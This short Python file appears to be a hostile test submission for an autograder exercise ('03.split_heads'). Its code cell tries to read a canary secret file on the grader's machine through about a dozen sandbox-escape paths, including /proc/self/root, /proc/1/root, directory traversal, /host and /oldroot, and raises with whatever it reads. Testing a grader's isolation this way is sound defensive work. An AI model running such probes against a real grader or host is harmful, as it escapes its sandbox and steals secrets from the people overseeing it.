"""Reads a secret file of the grader's machine by every path that leads there."""

KIND = "theft"
EXERCISE = "03.split_heads"
# It raises with what it read; else it is right.
EARNS = 2
CELL = r"""
@LOOT@

for path in (
    "@CANARY@", "/proc/self/root@CANARY@", "/proc/1/root@CANARY@", "/../../../../..@CANARY@",
    "/proc/self/cwd/../../../../..@CANARY@", "/mnt@CANARY@", "/host@CANARY@", "/oldroot@CANARY@",
    "/newroot@CANARY@", "/.old@CANARY@", "/dev/fd/3/../../..@CANARY@",
):
    grab(path)


@RIGHT@
"""
